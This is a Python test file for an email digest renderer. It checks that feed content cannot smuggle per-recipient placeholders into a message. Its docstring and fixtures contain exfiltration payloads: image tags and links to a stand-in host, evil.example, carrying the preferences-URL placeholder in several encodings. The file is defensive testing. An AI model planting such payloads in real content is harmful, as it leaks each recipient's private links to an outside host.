"""Content can never produce a per-recipient placeholder (issue 11, item 1).

The issue is rendered once with placeholders such as ``__digest_preferences_url__`` that are
filled per recipient. An item that contains that text (in its body, title, summary, link,
picture or tags, literally or as character references) must not be filled: otherwise
``<img src="https://evil.example/p.gif?p=__digest_preferences_url__">`` sends every reader's
preferences link to that host when the mail is opened.
"""

from __future__ import annotations

from datetime import timedelta

import pytest

from digest.config import load_config
from digest.message import MessageTemplate, Recipient
from digest.models import PLACEHOLDERS, Image, Item
from digest.render import PLACEHOLDER_PREFIX, Renderer
from tests.conftest import AT, REPO

SPELLINGS = [
    "{token}",
    "&#95;&#95;digest&#95;{field}&#95;&#95;",  # character references, decoded by the parsers
    "&#x5f;_digest_{field}__",
    "%5F%5Fdigest_{field}__",  # not a placeholder: stays as written, no harm
]


def hostile_item(number: int, field: str, spelling: str) -> Item:
    token = PLACEHOLDERS[field]
    text = spelling.format(token=token, field=field)
    return Item(
        source="evil", key=f"e{number}", title=f"Title {text}",
        published_at=AT - timedelta(hours=number + 1), summary=f"Summary {text}",
        body_html=f'<p>Body {text}</p><img src="https://evil.example/p.gif?p={text}" alt="{text}">'
        f'<a href="https://evil.example/?u={text}">{text}</a>',
        content_hash=str(number), url=f"https://evil.example/item?x={text}" if number % 2 else None,
        image=Image(src=f"https://evil.example/i.png?{text}", alt=text), tags=(f"tag {text}",),
    )  # fmt: skip


def clean_item(number: int) -> Item:
    return Item(
        source="ok", key=f"c{number}", title="Title", published_at=AT - timedelta(hours=number + 1),
        summary="Summary", body_html="<p>Body</p>", content_hash=str(number),
        url="https://example.org/x" if number % 2 else None,
        image=Image(src="https://example.org/i.png", alt="alt"), tags=("tag",),
    )  # fmt: skip


@pytest.mark.parametrize("digest", ["weekly", "monthly"])  # subjects and group labels differ
def test_item_content_never_becomes_a_placeholder(digest: str) -> None:
    loaded = load_config(REPO / "config.example.yaml", environ={})
    renderer = Renderer(loaded)
    period = loaded.schedule(digest).period_ending(AT)
    cases = [(f, s) for f in PLACEHOLDERS for s in SPELLINGS]
    hostile = renderer.render(
        digest, [hostile_item(n, f, s) for n, (f, s) in enumerate(cases)], period
    )
    clean = renderer.render(digest, [clean_item(n) for n in range(len(cases))], period)
    for token in PLACEHOLDERS.values():  # the templates' own placeholders, and no more
        assert hostile.html.count(token) == clean.html.count(token) > 0
        assert hostile.text.count(token) == clean.text.count(token) > 0
        assert token not in hostile.subject and token not in hostile.preheader

    template = MessageTemplate(hostile, sender="N <n@example.org>", list_id="l <l.example.org>")
    secret = "SECRET-TOKEN-OF-ANNA"
    anna = Recipient(
        email="anna@example.org", name="Anna", greeting=f"Hallo {secret}",
        unsubscribe_url=f"https://example.org/unsubscribe/{secret}",
        preferences_url=f"https://example.org/preferences/{secret}",
    )  # fmt: skip
    raw = template.build(anna, message_id="<m@example.org>", date=AT).decode("ascii")
    assert "evil.example" in raw  # the hostile items are in the message ...
    headers, body = raw.replace("=\r\n", "").split("\r\n\r\n", 1)
    assert headers.count(secret) == 1  # List-Unsubscribe
    # ... and the token shows up exactly where the templates put the placeholders
    expected = sum(clean.html.count(t) + clean.text.count(t) for t in PLACEHOLDERS.values())
    assert body.count(secret) == expected


def test_every_placeholder_starts_with_the_prefix_that_is_defused() -> None:
    assert all(token.startswith(PLACEHOLDER_PREFIX) for token in PLACEHOLDERS.values())
